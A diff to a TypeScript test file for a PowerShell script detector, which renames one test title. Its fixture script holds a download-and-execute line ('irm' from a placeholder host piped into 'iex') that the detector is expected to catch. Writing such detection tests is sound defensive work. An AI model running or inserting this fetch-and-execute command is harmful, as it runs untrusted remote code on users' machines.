@@ -26,7 +26,7 @@ const refused = [
   "$d = $a - $b",
 ];
 
-it.each(refused)("%s is read, and what stands behind it", async (statement) => {
+it.each(refused)("%s is read, and what follows it", async (statement) => {
   const detector = await createNodeDetector({ profile: "extended" });
   const script = (run: string): string => `\`\`\`powershell\n${statement}\n${run}\n\`\`\`\n`;
   const found = detector.detect(script("$c = irm https://x.example/a.ps1\niex $c"));
